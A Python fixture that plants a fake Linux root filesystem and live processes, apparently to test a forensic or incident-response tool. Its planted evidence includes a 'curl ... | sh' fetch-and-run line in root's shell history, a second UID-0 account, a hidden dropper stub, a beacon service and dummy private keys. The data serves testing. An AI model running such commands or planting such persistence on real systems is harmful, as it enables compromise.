"""What is planted in a prepared root: files, and processes that belong to it.

Everything has fixed names, contents and times, so that two programs that look
at it have no reason to see different things.
"""

import gzip
import hashlib
import io
import os
import shutil
import socket
import sqlite3
import struct
import subprocess
import tarfile
import time
import zipfile

#: Files get this time (2024-02-03 04:05:06 UTC) where nothing else is said.
STAMP = 1_706_933_106

#: Programs from this machine, with the libraries they need.
PROGRAMS = ["sh", "bash", "cat", "ls", "sleep", "dpkg-query", "dpkg", "id", "uname", "ps"]

TEXTS = {
    "etc/hostname": "prepared\n",
    "etc/hosts": "127.0.0.1 localhost\n192.0.2.7 prepared.example.net prepared\n"
                 "# a comment\n::1 ip6-localhost ip6-loopback\n192.0.2.9\tnas files # shared\n",
    "etc/resolv.conf": "nameserver 192.0.2.53\n",
    "etc/os-release": 'ID=debian\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n'
                      'VERSION="12 (bookworm)"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
    "etc/debian_version": "12.4\n",
    "etc/machine-id": "0123456789abcdef0123456789abcdef\n",
    "etc/nsswitch.conf": "passwd: files\ngroup: files\nhosts: files\n",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n"
                  "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                  "ann:x:1000:1000:Ann Example,,,:/home/ann:/bin/bash\n"
                  "bob:x:1001:1001::/home/bob:/bin/sh\n"
                  "eve:x:0:0:second root:/home/eve:/bin/bash\n"
                  "svc:x:990:990:Service:/var/lib/svc:/bin/false\n",
    "etc/shadow": "root:*:19000:0:99999:7:::\nann:!:19001:0:99999:7:::\n",
    "etc/group": "root:x:0:\nadm:x:4:ann\nsudo:x:27:ann,bob\nann:x:1000:\nbob:x:1001:\n"
                 "docker:x:998:bob\n",
    "etc/sudoers": "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
    "etc/crontab": "SHELL=/bin/sh\nPATH=/usr/bin:/bin\n# minute hour ...\n"
                   "17 *\t* * *\troot\tcd / && run-parts /etc/cron.hourly\n"
                   "25 6 * * 1 ann /home/ann/bin/weekly --quiet\n@reboot root /usr/local/bin/at-boot\n",
    "etc/cron.d/backup": "# backups\n30 2 * * * root /usr/local/bin/backup >/dev/null 2>&1\n"
                         "*/5 * * * 0,6 bob /bin/true\n",
    "etc/cron.daily/rotate": "#!/bin/sh\nexit 0\n",
    "etc/cron.hourly/check": "#!/bin/sh\necho checked\n",
    "var/spool/cron/crontabs/ann": "0 9 * * 1-5 /home/ann/bin/standup\n# done\n@daily /bin/echo hi\n",
    "etc/apt/sources.list": "# main\ndeb http://deb.example.org/debian bookworm main contrib\n"
                            "deb-src http://deb.example.org/debian bookworm main\n"
                            "deb [arch=amd64 signed-by=/usr/share/keyrings/x.gpg] https://x.example.org/apt stable main\n",
    "etc/apt/sources.list.d/tools.list": "deb http://tools.example.org/ ./\n",
    "etc/apt/sources.list.d/new.sources": "Types: deb deb-src\nURIs: https://new.example.org/debian\n"
                                          "Suites: bookworm bookworm-updates\nComponents: main non-free\n"
                                          "Signed-By: /usr/share/keyrings/new.gpg\n",
    "etc/systemd/system/beacon.service": "[Unit]\nDescription=Beacon\nAfter=network.target\n\n"
                                         "[Service]\nType=simple\nUser=svc\nExecStart=/opt/beacon/run --fast\n"
                                         "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n",
    "lib/systemd/system/plain.service": "[Unit]\nDescription=Plain\n\n[Service]\nExecStart=/bin/true\n",
    "usr/lib/systemd/system/other.timer": "[Timer]\nOnCalendar=daily\n",
    "etc/ssh/sshd_config": "PermitRootLogin no\nPasswordAuthentication yes\n",
    "root/.bash_history": "id\n#1706930000\nuname -a\ncurl http://192.0.2.66/x | sh\n",
    "home/ann/.bash_history": "ls -la\nssh bob@nas\nsudo su -\n",
    "home/ann/.zsh_history": ": 1706930100:0;git status\n",
    "home/ann/.bashrc": "alias ll='ls -l'\n",
    "home/ann/.ssh/authorized_keys":
        "# keys\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8mYQmZ3v1kW2n5yqS6x0b4t7u8v9w0x1y2z3a4b5c6 ann@laptop\n"
        "from=\"192.0.2.0/24\",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 build server\n",
    "root/.ssh/authorized_keys": "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDx root@elsewhere\n",
    "home/ann/.ssh/known_hosts": "nas,192.0.2.9 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFx\n"
                                 "|1|c2FsdHNhbHQ=|aGFzaGhhc2g= ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB\n",
    "home/bob/notes.txt": "see https://intranet.example.net/a?b=1 and http://192.0.2.66/payload.bin\n",
    "home/bob/bin/tool": "#!/bin/sh\nexec /bin/true\n",
    "opt/beacon/run": "#!/bin/sh\nsleep 10\n",
    "var/lib/dpkg/status":
        "Package: alpha\nStatus: install ok installed\nPriority: optional\nSection: utils\n"
        "Installed-Size: 120\nMaintainer: Ann <ann@example.net>\nArchitecture: amd64\nVersion: 1.2-3\n"
        "Description: first thing\n A longer text.\n\n"
        "Package: beta\nStatus: deinstall ok config-files\nPriority: optional\nSection: libs\n"
        "Installed-Size: 7\nMaintainer: Bob <bob@example.net>\nArchitecture: all\nVersion: 2:0.9~rc1\n"
        "Description: second thing\n\n",
    "var/log/syslog": "Feb  3 04:00:01 prepared CRON[211]: (root) CMD (cd / && run-parts /etc/cron.hourly)\n"
                      "Feb  3 04:01:00 prepared systemd[1]: Started Beacon.\n"
                      "Feb  3 04:02:00 prepared kernel: [ 12.5] eth0: link up\n",
    "var/log/messages": "Feb  3 04:03:00 prepared app[9]: error code 7\n",
    "var/log/secure": "",
    "proc-notes": "not /proc\n",
    # What /proc of a host with more hardware says.
    "opt/proc/arp":
        "IP address       HW type     Flags       HW address            Mask     Device\n"
        "192.0.2.1        0x1         0x2         02:00:5e:10:00:01     *        eth0\n"
        "192.0.2.9        0x1         0x0         00:00:00:00:00:00     *        eth0\n",
    "opt/proc/modules": "nfs 421888 2 nfsv4,nfsv3, Live 0x0000000000000000\n"
                        "loop 32768 0 - Live 0x0000000000000000\n",
    # Programs that tell of packages, services and disks, as others print it.
    "usr/bin/dnf": "#!/bin/sh\necho 'Installed Packages'\n"
                   "echo 'bash.x86_64            5.1.8-6.el9        @anaconda'\n"
                   "echo 'a-package-with-a-name-that-is-long.noarch'\n"
                   "echo '                       2:1.0-1.el9        @epel'\n"
                   "echo 'other.x86_64           1.0-1              commandline'\n",
    "usr/bin/zypper": "#!/bin/sh\ncat <<'END'\n<?xml version='1.0'?>\n<stream>\n"
                      "<search-result version=\"0.0\">\n<solvable-list>\n"
                      "<solvable status=\"installed\" name=\"aaa_base\" kind=\"package\" edition=\"84.87-1\" "
                      "arch=\"x86_64\" repository=\"Main\"/>\n"
                      "<solvable status=\"installed\" name=\"acl\" kind=\"package\" edition=\"2.2.52-4\" "
                      "arch=\"noarch\" repository=\"Update &amp; more\"/>\n"
                      "</solvable-list>\n</search-result>\n</stream>\nEND\n",
    "usr/bin/systemctl": "#!/bin/sh\ncat <<'END'\n"
                         "  UNIT               LOAD   ACTIVE SUB     DESCRIPTION\n"
                         "  beacon.service     loaded active running Beacon\n"
                         "  cron.service       loaded active exited  Regular background programs\n"
                         "\n2 loaded units listed.\nEND\n",
    "usr/bin/df": "#!/bin/sh\ncat <<'END'\n"
                  "Filesystem      Size  Used Avail Use% Mounted on\n"
                  "/dev/vda1        20G  7.5G   12G  40% /\n"
                  "tmpfs           2.0G     0  2.0G   0% /dev/shm\nEND\n",
}

AUTH = (
    "Feb  3 04:10:01 prepared sshd[300]: Accepted publickey for ann from 192.0.2.21 port 50100 ssh2: "
    "ED25519 SHA256:abcdefabcdefabcdefabcdefabcdefabcdefabcdefa\n"
    "Feb  3 04:11:02 prepared sshd[301]: Failed password for invalid user admin from 198.51.100.4 port 40000 ssh2\n"
    "Feb  3 04:11:05 prepared sshd[301]: Failed password for bob from 198.51.100.4 port 40001 ssh2\n"
    "Feb  3 04:12:00 prepared sshd[302]: Accepted password for bob from 198.51.100.4 port 40002 ssh2\n"
    "Feb  3 04:13:00 prepared sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/su -\n"
)

#: Files and the bits of their mode.
MODES = {
    "etc/shadow": 0o640, "home/ann/.ssh/id_rsa": 0o600, "home/ann/.ssh/id_plain": 0o600,
    "etc/cron.daily/rotate": 0o755, "etc/cron.hourly/check": 0o755, "home/bob/bin/tool": 0o755,
    "opt/beacon/run": 0o755, "usr/bin/dnf": 0o755, "usr/bin/zypper": 0o755,
    "usr/bin/systemctl": 0o755, "usr/bin/df": 0o755, "usr/local/bin/suid-tool": 0o4755, "usr/local/bin/sgid-tool": 0o2755,
    "tmp/.hidden/dropper": 0o755,
}

OWNERS = {"home/ann": (1000, 1000), "home/bob": (1001, 1001)}


def md5(name):
    """What a planted text hashes to."""
    return hashlib.md5(TEXTS[name].encode()).hexdigest()


def write(root, name, data, stamp=STAMP):
    path = os.path.join(root, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)
    os.utime(path, (stamp, stamp))


def login_record(kind, pid, line, user, host, stamp, address="192.0.2.21"):
    """A record of utmp, wtmp and btmp on a 64 bit machine."""
    return struct.pack("<hxxi32s4s32s256shhiii4s12x20x", kind, pid, line.encode(), b"1", user.encode(),
                       host.encode(), 0, 0, 77, stamp, 250_000, socket.inet_aton(address))


def last_login(records):
    """lastlog: a record for each user id."""
    out = bytearray()
    for uid, (stamp, line, host) in sorted(records.items()):
        record = struct.pack("<i32s256s", stamp, line.encode(), host.encode())
        out += b"\0" * (uid * len(record) - len(out)) + record
    return bytes(out)


def rsa_key(encrypted):
    """What only looks like a private key: readers look at its head."""
    if encrypted:
        return ("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,"
                "00112233445566778899AABBCCDDEEFF\n\nQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=\n"
                "-----END RSA PRIVATE KEY-----\n")
    return ("-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeK\n"
            "-----END RSA PRIVATE KEY-----\n")


def open_ssh_key(cipher):
    """The head of a key in OpenSSH's own format, with the given cipher."""
    import base64
    text = lambda s: struct.pack(">I", len(s)) + s
    kdf = b"none" if cipher == b"none" else b"bcrypt"
    body = b"openssh-key-v1\0" + text(cipher) + text(kdf) + text(b"" if kdf == b"none" else b"\0" * 24)
    body += struct.pack(">I", 1) + text(b"\0" * 51) + text(b"\0" * 64)
    lines = base64.b64encode(body).decode()
    lines = "\n".join(lines[i:i + 70] for i in range(0, len(lines), 70))
    return f"-----BEGIN OPENSSH PRIVATE KEY-----\n{lines}\n-----END OPENSSH PRIVATE KEY-----\n"


def copy_program(root, name):
    path = shutil.which(name)
    if not path:
        return
    files = [path]
    listed = subprocess.run(["ldd", path], capture_output=True, text=True).stdout
    files += [w for line in listed.splitlines() for w in line.split() if w.startswith("/")]
    for source in files:
        target = os.path.join(root, source.lstrip("/"))
        if not os.path.exists(target):
            os.makedirs(os.path.dirname(target), exist_ok=True)
            shutil.copy2(os.path.realpath(source), target)
            os.utime(target, (STAMP, STAMP))
    return path


def archives(root):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        info = zipfile.ZipInfo("docs/secret.txt", (2024, 2, 3, 4, 5, 6))
        z.writestr(info, "the keyword is marmalade\n")
        z.writestr(zipfile.ZipInfo("b.bin", (2024, 2, 3, 4, 5, 6)), bytes(range(256)))
    write(root, "home/bob/files.zip", buffer.getvalue())
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("word/document.xml", (2024, 2, 3, 4, 5, 6))
        z.writestr(info, "<w:document><w:t>The Secret plan</w:t></w:document>\n" * 3)
        z.writestr(zipfile.ZipInfo("[Content_Types].xml", (2024, 2, 3, 4, 5, 6)), "<Types/>")
    write(root, "home/bob/plan.docx", buffer.getvalue())
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as t:
        t.addfile(tarfile.TarInfo("x"), io.BytesIO())
    write(root, "home/bob/x.tar", buffer.getvalue())
    write(root, "var/log/syslog.2.gz", gzip.compress(b"Jan 30 01:02:03 prepared app[1]: old error\n", mtime=0))


def browser(root):
    """An extension and a history of Chrome's."""
    base = "home/ann/.config/google-chrome/Default"
    manifest = ('{"manifest_version": 2, "name": "__MSG_title__", "version": "1.4", "description": "Blocks",'
                ' "default_locale": "en", "permissions": ["tabs", "https://*/*"],'
                ' "background": {"scripts": ["bg.js"], "persistent": true}}')
    extension = f"{base}/Extensions/aaaabbbbccccddddeeeeffffgggghhhh/1.4_0"
    write(root, f"{extension}/manifest.json", manifest)
    write(root, f"{extension}/_locales/en/messages.json", '{"title": {"message": "Blocker"}}')
    path = os.path.join(root, base, "History")
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE urls(id INTEGER PRIMARY KEY, url TEXT, title TEXT, visit_count INTEGER)")
    connection.execute("INSERT INTO urls VALUES (1, 'https://example.net/', 'Example', 3)")
    connection.commit()
    connection.close()
    os.utime(path, (STAMP, STAMP))


def files(root):
    for name in ["bin", "sbin", "lib", "lib64"]:
        os.makedirs(os.path.join(root, "usr", name), exist_ok=True)
        os.symlink(f"usr/{name}", os.path.join(root, name))
    for name in ["proc", "sys", "dev", "tmp", "run", "var/tmp", "var/run", "home/eve", "var/lib/svc",
                 "etc/cron.weekly", "usr/share/zoneinfo"]:
        os.makedirs(os.path.join(root, name), exist_ok=True)
    for name in PROGRAMS:
        copy_program(root, name)
    for name, text in TEXTS.items():
        write(root, name, text)
    write(root, "var/log/auth.log", AUTH)
    write(root, "var/log/auth.log.1", AUTH.replace("04:1", "03:1"))
    write(root, "home/ann/.ssh/id_rsa", rsa_key(True))
    write(root, "home/ann/.ssh/id_plain", rsa_key(False))
    write(root, "home/bob/.ssh/id_ed25519", open_ssh_key(b"aes256-ctr"))
    write(root, "root/.ssh/id_ed25519", open_ssh_key(b"none"))
    logins = [login_record(2, 0, "~", "reboot", "6.1.0", STAMP - 5000, "0.0.0.0"),
              login_record(7, 300, "pts/0", "ann", "192.0.2.21", STAMP - 4000),
              login_record(8, 300, "pts/0", "", "", STAMP - 3000, "0.0.0.0"),
              login_record(7, 302, "pts/1", "bob", "198.51.100.4", STAMP - 2000, "198.51.100.4")]
    write(root, "var/log/wtmp", b"".join(logins))
    write(root, "var/log/wtmp.1", logins[1])
    write(root, "var/run/utmp", b"".join(logins[:2]))
    write(root, "var/log/btmp", login_record(6, 301, "ssh:notty", "admin", "198.51.100.4", STAMP - 2500))
    write(root, "var/log/lastlog", last_login({0: (STAMP - 9000, "tty1", ""),
                                               1000: (STAMP - 4000, "pts/0", "192.0.2.21")}))
    write(root, "usr/local/bin/suid-tool", b"\x7fELF suid")
    write(root, "usr/local/bin/sgid-tool", b"\x7fELF sgid")
    write(root, "tmp/.hidden/dropper", b"\x7fELF dropper")
    write(root, "tmp/ marked by its name", "x")
    write(root, "usr/share/doc/report.docx", b"PK\x03\x04 not really")
    write(root, "var/cache/big.bin", bytes(i * 7 % 251 for i in range(100_000)))
    os.symlink("/home/bob/notes.txt", os.path.join(root, "home/ann/link-to-notes"))
    os.symlink("nowhere", os.path.join(root, "home/ann/dangling"))
    archives(root)
    browser(root)
    for name, mode in MODES.items():
        if os.path.exists(os.path.join(root, name)):
            os.chmod(os.path.join(root, name), mode)
    for name, (uid, gid) in OWNERS.items():
        for at, dirs, names in os.walk(os.path.join(root, name)):
            for one in [at] + [os.path.join(at, n) for n in names]:
                os.chown(one, uid, gid, follow_symlinks=False)
    for at, dirs, _ in os.walk(root):
        for d in dirs:
            if not os.path.islink(os.path.join(at, d)):
                os.utime(os.path.join(at, d), (STAMP, STAMP))


def processes(root):
    """Processes that are looked at. They live as long as the caller."""
    def inside(*argv, **kw):
        return subprocess.Popen(argv, preexec_fn=lambda: (os.chroot(root), os.chdir("/")),
                                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, **kw)

    shutil.copy(os.path.join(root, shutil.which("sleep").lstrip("/")), os.path.join(root, "tmp/gone"))
    started = [
        inside("/bin/sleep", "100000", env={"LD_PRELOAD_NOT": "/tmp/x.so", "HOME": "/home/ann"}),
        inside("/tmp/gone", "100001", env={}),
        inside("/bin/bash", "-c", "exec 7>/tmp/deleted.txt; echo data >&7; sleep 100002; :",
               env={"PATH": "/bin:/usr/bin"}),
    ]
    time.sleep(0.5)
    for name in ["tmp/gone", "tmp/deleted.txt"]:
        os.unlink(os.path.join(root, name))
    sockets = []
    for family, address in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]:
        try:
            server = socket.socket(family, socket.SOCK_STREAM)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind((address, 4321))
            server.listen()
            datagrams = socket.socket(family, socket.SOCK_DGRAM)
            datagrams.bind((address, 5353))
            sockets += [server, datagrams]
            if family == socket.AF_INET:
                client = socket.create_connection((address, 4321), 5)
                sockets += [client, server.accept()[0]]
        except OSError as e:
            print(f"no sockets of family {family}: {e}")
    return started, sockets
